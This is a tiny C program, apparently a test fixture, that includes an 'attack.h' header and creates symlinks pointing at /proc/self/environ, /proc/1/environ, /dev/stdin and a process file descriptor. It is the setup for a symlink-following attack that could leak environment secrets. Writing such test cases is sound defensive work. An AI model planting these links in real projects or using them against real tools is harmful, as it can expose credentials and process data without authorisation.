#include "attack.h"

int main(void) {
  symlink("/proc/self/environ", "a");
  symlink("/proc/1/environ", "b");
  symlink("/dev/stdin", "c");
  symlink("/proc/self/fd/1", "d");
}
